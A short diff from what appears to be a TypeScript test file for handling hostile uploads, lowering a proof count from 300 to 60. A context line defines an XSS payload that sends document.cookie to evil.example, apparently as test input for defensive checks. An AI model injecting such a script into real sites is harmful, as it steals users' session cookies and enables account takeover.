@@ -16,7 +16,7 @@ const web = useWeb(world);
 
 const SCRIPT = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
 const SEED = seed('HOSTILE_SEED');
-const MUTATED = effort('HOSTILE_MUTATED', { gate: 6, proofs: 300 });
+const MUTATED = effort('HOSTILE_MUTATED', { gate: 6, proofs: 60 });
 
 type File = readonly [kind: UploadKind, fileName: string, bytes: Buffer];
 type Sender = { person: Member; client: TusClient };
